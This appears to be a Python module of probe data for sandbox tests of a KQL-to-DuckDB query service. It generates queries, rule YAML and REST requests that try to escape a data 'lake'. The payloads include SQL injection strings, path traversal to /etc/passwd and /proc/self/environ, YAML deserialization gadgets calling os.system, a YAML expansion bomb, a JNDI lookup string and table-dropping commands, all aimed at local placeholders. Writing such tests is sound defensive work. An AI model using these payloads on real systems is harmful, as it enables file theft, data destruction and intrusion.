"""Texts and requests that try to read a file, to write one or to reach a host that no query may reach.

Each is data: what is done with it, and how a success is told, stands in `test_probes.py`. Names in braces stand for a
scene's own places: `{secret}` is a file outside the lake (with the word of the canary in it, as each of its siblings
has), `{outside}` its folder, `{elsewhere}` another one, `{lake}` the lake, `{link}` a link inside the lake that leads
to the secret, `{linked}` one to its folder, `{n}` the probe's number, `{port}` a listener that nobody may call.
"""

from collections.abc import Iterator
from itertools import product
from typing import Final

# --- KQL --------------------------------------------------------------------------------------------------------------

_PLACES: Final = (
    "{secret}.txt",
    "file://{secret}.txt",
    "{lake}/../secret.csv",
    "{link}",
    "/etc/passwd",
    "/proc/self/environ",
    "http://127.0.0.1:{port}/x.csv",
    "https://127.0.0.1:{port}/x.csv;managed_identity=system",
    "abfss://container@127.0.0.1:{port}/x.csv",
    "\\\\\\\\127.0.0.1\\\\share\\\\x.csv",
)
_EXTERNAL: Final = (
    "externaldata(line: string) [@'{place}'] with (format='raw')",
    "externaldata(line: string) [h@'{place}'] with (format='txt')",
    "externaldata(a: string, b: string) ['{place}'] with (format='csv', ignoreFirstRecord=false)",
    "externaldata(line: string) ['{place}', '{place}']",
    "let there = '{place}'; externaldata(line: string) [there]",
    "Events | join kind=leftouter (externaldata(Message: string) [@'{place}']) on Message",
)
# Each ends a literal or a name of SQL, if it reaches one unquoted, and goes on with a reading or a writing statement.
_INJECTIONS: Final = (
    "' UNION ALL SELECT content FROM read_text('{secret}.txt') --",
    "'; COPY (SELECT 1) TO '{lake}/Events/{n}.csv'; --",
    "''; COPY (SELECT 1) TO '{outside}/{n}.csv'; --",
    "\\\\' OR 1 = (SELECT count(*) FROM read_csv('{secret}.csv')) OR '",
    "\\\" UNION ALL SELECT content FROM read_text('{secret}.txt') --",
    "\\\"; ATTACH '{lake}/{n}.db'; SELECT \\\"",
    "$$; SELECT * FROM read_blob('{secret}.txt') $$",
    "x' || (SELECT content FROM read_text('{secret}.txt')) || 'y",
    "%' /* */ UNION SELECT * FROM glob('{outside}/*') --",
    "\\u0027 UNION ALL SELECT content FROM read_text(\\u0027{secret}.txt\\u0027) --",
    "\\x27; EXPORT DATABASE \\x27{outside}/{n}\\x27; --",
    "${{jndi:ldap://127.0.0.1:{port}/a}}",
)
_TEXTS: Final = (  # where a string literal may stand
    'Events | where Message == "{text}"',
    'Events | where Message has "{text}" or Message contains_cs "{text}"',
    'Events | where Message in~ ("{text}", "b")',
    'Events | extend x = strcat("{text}", Message, "{text}") | project x',
    'Events | extend p = parse_path("{text}"), u = parse_url("{text}"), j = parse_json("{text}")',
    'datatable(a: string) ["{text}"] | summarize make_set(a), arg_max(a, *)',
    'print x = toscalar(print "{text}"), y = dynamic({{"{text}": "{text}"}})',
    'Events | extend b = bag_pack("{text}", Message) | evaluate bag_unpack(b)',
    'Events | parse Message with "{text}" rest: string',
)
_NAMES: Final = (  # where a name may stand
    "Events | extend ['{name}'] = 1 | project ['{name}']",
    "Events | summarize ['{name}'] = count() by ['Me{name}'] = Message",
    "let ['{name}'] = 1; print ['{name}']",
    "['{name}']",
    'table("{text}")',
    'database("{text}").Events',
    'cluster("{text}").database("x").Events',
    "union ['{name}'], Events",
    'union isfuzzy=true Events, table("{text}")',
    'external_table("{text}")',
)
_CALLS: Final = (
    "print x = {call}",
    "Events | extend x = {call}",
    "{call}",
    "{call} | take 10",
)
_FUNCTIONS: Final = (
    "read_text('{secret}.txt')",
    "read_csv('{secret}.csv')",
    "read_blob('{secret}.txt')",
    "read_parquet('{lake}/Events/*.parquet')",
    "glob('{outside}/*')",
    "getenv('CANARY')",
    "query('SELECT content FROM read_text(''{secret}.txt'')')",
    "query_table('{secret}.csv')",
    "duckdb_settings()",
    "current_setting('temp_directory')",
    "pg_read_file('{secret}.txt')",
    "system('cat {secret}.txt')",
)
_OTHERS: Final = (
    "_GetWatchlist('../secret')",
    "_GetWatchlist('{secret}')",
    "invoke ['../secret']()",
    "Events | invoke FileProfile('{secret}.txt', 1000)",
    "evaluate sql_request('Server=127.0.0.1,{port}', 'SELECT 1')",
    "evaluate http_request('http://127.0.0.1:{port}/')",
    "evaluate http_request_post('http://127.0.0.1:{port}/', dynamic({{}}), dynamic({{}}))",
    'Events | evaluate python(typeof(*), \'import os; open("{outside}/{n}", "w")\')',
    "Events | evaluate r(typeof(*), 'file.create(\"{outside}/{n}\")')",
    "evaluate cosmosdb_sql_request('AccountEndpoint=http://127.0.0.1:{port}', 'd', 'c', 'SELECT 1')",
    "evaluate mysql_request('Server=127.0.0.1;Port={port}', 'SELECT 1')",
    "evaluate postgresql_request('Host=127.0.0.1;Port={port}', 'SELECT 1')",
    "evaluate azure_digital_twins_query_request('http://127.0.0.1:{port}', 'SELECT 1')",
    "evaluate read_text('{secret}.txt')",
    "Events | render table with (title='../../{secret}.txt')",
    "set query_datascope='{secret}'; Events",
    "#crp x={secret}\nEvents",
    "COPY Events TO '{outside}/{n}.csv'",
    "SELECT * FROM read_text('{secret}.txt')",
    "ATTACH '{outside}/{n}.db'",
    ".export to csv ('{outside}/{n}.csv') <| Events",
    ".export async to parquet (h@'file://{outside}') <| Events",
    ".ingest into table Events ('{secret}.csv')",
    ".ingest inline into table Events <| {secret}",
    ".set-or-append Events <| externaldata(Message: string) ['{secret}.txt']",
    ".create external table X (a: string) kind=storage dataformat=csv ('file://{outside}')",
    ".show external table X artifacts",
    ".drop table Events",
    ".alter table Events folder '{outside}'",
    ".execute database script <| .drop table Events",
    ".create function F() {{ externaldata(a: string) ['{secret}.txt'] }}",
    "print x = 1 ; .drop table Events",
    "restrict access to (['{secret}.txt']); ['{secret}.txt']",
    "declare query_parameters(t: string = '{secret}.txt'); table(t)",
    "find in (['{secret}.txt']) where true",
    "search in (['{secret}.txt']) 'canary'",
    "union withsource=f * | where f has 'secret'",
    "Events | as ['{secret}.txt'] | union ['{secret}.csv']",
    "Events | fork (['{secret}.txt'])",
    "materialized_view('{secret}.txt')",
    "entity_group [cluster('http://127.0.0.1:{port}').database('x')]",
    "print gzip_decompress_from_base64_string('{secret}.txt'), zlib_decompress_from_base64_string('{secret}.txt')",
    "['/etc/passwd']",
    "['../secret.csv']",
    "['Events/../../secret.csv']",
    "_settings",
    "['_settings']",
    "table('_ingested')",
    "['_quarantine']",
    "information_schema_tables",
    "['information_schema.tables']",
    "['duckdb_secrets()']",
    "sqlite_master",
)


def kql() -> Iterator[str]:
    """Queries."""
    for place, form in product(_PLACES, _EXTERNAL):
        yield form.replace("{place}", place)
    for number, text in enumerate(_INJECTIONS):
        # Each literal's place meets a third of the payloads, and each payload a third of the places.
        yield from (form.replace("{text}", text) for form in _TEXTS[number % 3 :: 3])
        name = text.replace("\\", "\\\\").replace("'", "\\'")
        yield from (form.replace("{text}", text).replace("{name}", name) for form in _NAMES[number % 3 :: 3])
    for number, call in enumerate(_FUNCTIONS):
        yield from (form.replace("{call}", call) for form in _CALLS[number % 2 :: 2])
    yield from _OTHERS


# --- rule documents ---------------------------------------------------------------------------------------------------

_RULE: Final = """id: 11111111-1111-4111-8111-1111111111{n:02d}
name: {name}
description: {description}
severity: {severity}
queryFrequency: 1h
queryPeriod: 1h
triggerOperator: gt
triggerThreshold: 0
tactics: []
relevantTechniques: []
query: {query}
entityMappings: []
version: 1.0.0
kind: Scheduled
"""
_QUERIES: Final = (
    "externaldata(line: string) ['{secret}.txt']",
    "union Events, (externaldata(Message: string) ['{secret}.csv'])",
    "print x = read_text('{secret}.txt')",
    "['{secret}.txt']",
    ".export to csv ('{outside}/{n}.csv') <| Events",
    "_GetWatchlist('../secret')",
    "Events | where Message == \"' UNION SELECT content FROM read_text('{secret}.txt') --\"",
    "evaluate http_request('http://127.0.0.1:{port}/')",
)
_YAML: Final = (
    "query: !!python/object/apply:os.system ['touch {outside}/{n}']",
    "query: !!python/object/new:os.popen ['cat {secret}.txt']",
    "query: !!python/name:os.environ",
    "query: !include {secret}.txt",
    "query: !file {secret}.txt",
    "query: &a [*a]",
    "a: &a ['x','x','x','x','x','x','x','x','x']\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nquery: [*e,*e,*e,*e,*e,*e,*e,*e,*e]",
    "<<: {{query: Events}}\nname: x",
    "query: {deep}",
    "query: Events\nquery: ['{secret}.txt']",
    "extends: {secret}.txt\nquery: Events",
    "$ref: file://{secret}.txt",
    "query: Events\nfrom: ../../secret",
    "query: Events\nsource: /etc/passwd",
    "? [complex, key]\n: query",
    "%TAG ! tag:python/object:os.\n---\nquery: !system 'touch {outside}/{n}'",
)


def documents() -> Iterator[str]:
    """Texts of rule documents."""
    for query in _QUERIES:
        yield _document(query='"' + query.replace("\\", "\\\\").replace('"', '\\"') + '"')
        yield _document(query="Events | take 1", description='"' + query.replace('"', "'") + '"')
    for text in ("../../{secret}.txt", "file://{secret}.txt", "$(cat {secret}.txt)"):
        yield _document(name=text, query="Events | take 1")
        yield _document(severity=text, query="Events | take 1")
    yield from _YAML


def _document(**parts: str) -> str:
    filled = {"name": "a rule", "description": "a probe", "severity": "Low", **parts}
    found = _RULE
    for name, value in filled.items():
        found = found.replace("{" + name + "}", value)
    return found.replace("{n:02d}", "11")


# --- REST -------------------------------------------------------------------------------------------------------------

_PATHS: Final = (
    "/v1/rest/../../../secret.txt",
    "/v1/rest/%2e%2e/%2e%2e/secret.txt",
    "/..%2f..%2fsecret.txt",
    "/{secret}.txt",
    "//{secret}.txt",
    "/v2/rest/query/{secret}.txt",
    "/static/../../secret.txt",
    "/v1/workspaces/..%2f..%2fsecret/query",
    "/v1/workspaces/{secret}/query",
    "/v1/rest/auth/metadata?file={secret}.txt",
)
_TABLE_NAMES: Final = (
    "..%2f..%2f{n}",
    "%2fetc%2f{n}",
    "..",
    "_settings",
    "_quarantine",
    "Events%00{n}",
    "{n};x",
    "a%2fb",
)
_BODIES: Final = (
    {"db": "{secret}.txt", "csl": "Events"},
    {"db": "../../secret", "csl": ".show tables"},
    {"db": "hunt", "csl": ".show database schema | extend x = externaldata(a: string) ['{secret}.txt']"},
    {"db": "hunt", "csl": ".show tables | union (externaldata(a: string) ['{secret}.txt'])"},
    {
        "db": "hunt",
        "csl": ".show tables | where TableName == \"' UNION SELECT content FROM read_text('{secret}.txt') --\"",
    },
    {"db": "hunt", "csl": ".show tables | project x = read_text('{secret}.txt')"},
    {"db": "hunt", "csl": "Events", "properties": {"Options": {"query_datascope": "{secret}.txt"}}},
    {"db": "hunt", "csl": "Events", "properties": {"Options": {"query_results_cache_path": "{secret}.txt"}}},
    {"db": "hunt", "csl": "table(t)", "properties": {"Parameters": {"t": "'{secret}.txt'"}}},
    {
        "db": "hunt",
        "csl": "declare query_parameters(t: string); Events | where Message == t",
        "properties": {"Parameters": {"t": "' UNION SELECT content FROM read_text('{secret}.txt') --"}},
    },
    {
        "db": "hunt",
        "csl": "declare query_parameters(t: dynamic); print t",
        "properties": {"Parameters": {"t": 'dynamic({{"a": "x\'; COPY (SELECT 1) TO \'{outside}/{n}.csv\'"}})'}},
    },
    {
        "db": "hunt",
        "csl": "externaldata(a: string) ['{secret}.txt']",
        "properties": {"Options": {"externaldata": "on"}},
    },
)


def posts() -> Iterator[tuple[str, object]]:
    """(path, JSON body) of requests."""
    for path in _PATHS:
        yield path, {"db": "hunt", "csl": "Events", "query": "Events"}
    for route in ("/v1/rest/query", "/v2/rest/query", "/v1/rest/mgmt"):
        yield from ((route, body) for body in _BODIES)
    for query in ("externaldata(a: string) ['{secret}.txt']", "['{secret}.txt']", "print read_text('{secret}.txt')"):
        yield "/v1/workspaces/hunt/query", {"query": query}
        yield "/v1.0/security/runHuntingQuery", {"Query": query}
        yield "/api/advancedhunting/run", {"Query": query}
        yield "/api/analyze", {"query": query}
    for name in _TABLE_NAMES:
        yield f"/v1/rest/ingest/hunt/{name}?streamFormat=json", {"Message": "x"}
        yield f"/v1/rest/ingest/{name}/Events?streamFormat=json&mappingName={name}", {"Message": "x"}


# --- SQL --------------------------------------------------------------------------------------------------------------

_FILES: Final = ("{secret}.{kind}", "{lake}/../secret.{kind}", "{lake}/Events/../../secret.{kind}")
_READERS: Final = (
    ("txt", "SELECT content FROM read_text('{file}')"),
    ("txt", "SELECT content FROM read_blob('{file}')"),
    ("txt", "SELECT * FROM read_csv('{file}', header=false, columns={{'c': 'VARCHAR'}}, delim='\\t')"),
    ("csv", "SELECT * FROM '{file}'"),
    ("csv", "SELECT * FROM read_csv_auto('{file}')"),
    ("csv", "SELECT * FROM sniff_csv('{file}')"),
    ("json", "SELECT * FROM read_json('{file}')"),
    ("json", "SELECT * FROM read_ndjson_objects('{file}')"),
    ("json", "SELECT * FROM '{file}'"),
    ("parquet", "SELECT * FROM read_parquet('{file}')"),
    ("parquet", "SELECT * FROM parquet_metadata('{file}')"),
    ("parquet", "SELECT * FROM '{file}'"),
    ("parquet", "SELECT value FROM parquet_kv_metadata('{file}'), read_parquet('{file}')"),
    ("csv", "CREATE TEMP TABLE t_{n} AS SELECT * FROM read_csv('{file}'); SELECT * FROM t_{n}"),
    ("csv", "CREATE TEMP TABLE c_{n} (a VARCHAR, b VARCHAR); COPY c_{n} FROM '{file}'; SELECT * FROM c_{n}"),
    ("csv", "SELECT * FROM query('SELECT * FROM read_csv(''{file}'')')"),
    ("csv", "SELECT * FROM query_table('{file}')"),
    ("csv", "CREATE TEMP MACRO m_{n}() AS TABLE SELECT * FROM read_csv('{file}'); SELECT * FROM m_{n}()"),
    ("db", "ATTACH '{file}' AS a_{n} (READ_ONLY); SELECT * FROM a_{n}.t"),
)
_SQL: Final = (
    "SELECT * FROM glob('{outside}/*')",
    "SELECT * FROM glob('{outside}/**')",
    "SELECT * FROM glob('{lake}/../*')",
    "SELECT content FROM read_text('{link}')",
    "SELECT * FROM read_csv('{link}')",
    "SELECT content FROM read_text('{linked}/secret.txt')",
    "SELECT content FROM read_text('{linked}/../secret.txt')",
    "SELECT content FROM read_text(['{lake}/none', '{secret}.txt'])",
    "SELECT content FROM read_text('{outside}/sec*.txt')",
    "SELECT content FROM read_text('/proc/self/environ')",
    "SELECT content FROM read_text('/proc/self/root{secret}.txt')",
    "SELECT content FROM read_text('/proc/self/cwd/../secret.txt')",
    "SELECT content FROM read_text('/proc/1/environ')",
    "SET home_directory = '{outside}'; SELECT content FROM read_text('~/secret.txt')",
    "SET file_search_path = '{outside}'; SELECT * FROM read_csv('secret.csv')",
    "SET enable_external_access = true; SELECT content FROM read_text('{secret}.txt')",
    "SET GLOBAL lock_configuration = false; SELECT content FROM read_text('{secret}.txt')",
    "RESET allowed_directories; SELECT content FROM read_text('{secret}.txt')",
    "SET allowed_paths = ['{secret}.txt']; SELECT content FROM read_text('{secret}.txt')",
    "PRAGMA database_list; SELECT content FROM read_text('{secret}.txt')",
    "COPY (SELECT 1) TO '{outside}/{n}.csv'",
    "COPY (SELECT 1) TO '{outside}/{n}.parquet'",
    "COPY (SELECT 1) TO '{outside}/{n}.json'",
    "COPY (SELECT 1 AS a, 2 AS b) TO '{outside}/{n}' (FORMAT parquet, PARTITION_BY (a))",
    "COPY (SELECT 1) TO '{lake}/../{n}.csv'",
    "COPY (SELECT 1) TO '{linked}/{n}.csv'",
    "COPY (SELECT 1) TO '{elsewhere}/{n}.bluetick'",
    "EXPORT DATABASE '{outside}/{n}'",
    "ATTACH '{outside}/{n}.db' AS d_{n}; CREATE TABLE d_{n}.t AS SELECT 1 AS a; CHECKPOINT d_{n}",
    "SET temp_directory = '{outside}/{n}'; SET memory_limit = '9MB'; SELECT count(DISTINCT i) FROM range(9000000) _(i)",
    "SET secret_directory = '{outside}/{n}'; CREATE PERSISTENT SECRET s (TYPE http)",
    "SET enable_profiling = 'json'; SET profiling_output = '{outside}/{n}.json'; SELECT 1",
    "SET extension_directory = '{outside}/{n}'; INSTALL httpfs",
    "CALL enable_logging(storage_path = '{outside}/{n}')",
    "INSTALL httpfs FROM 'http://127.0.0.1:{port}'",
    "LOAD '{outside}/evil.duckdb_extension'",
    "SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')",
    "SELECT * FROM read_parquet('s3://127.0.0.1:{port}/x.parquet')",
    "ATTACH 'http://127.0.0.1:{port}/x.db'",
    # Inside the lake, which the engine's own lock leaves open.
    "COPY (SELECT 1) TO '{lake}/Events/{n}.parquet'",
    "ATTACH '{lake}/Events/{n}.db' AS d_{n}; CREATE TABLE d_{n}.t AS SELECT 1 AS a; CHECKPOINT d_{n}",
    "EXPORT DATABASE '{lake}/Events/{n}'",
    "COPY (SELECT 1) TO '{lake}/Events/_delta_log/{n}.json'",
)


def sql() -> Iterator[str]:
    """Statements for the fences behind the translation, which alone would keep each of them out."""
    for file, (kind, statement) in product(_FILES, _READERS):
        yield statement.replace("{file}", file).replace("{kind}", kind)
    yield from _SQL
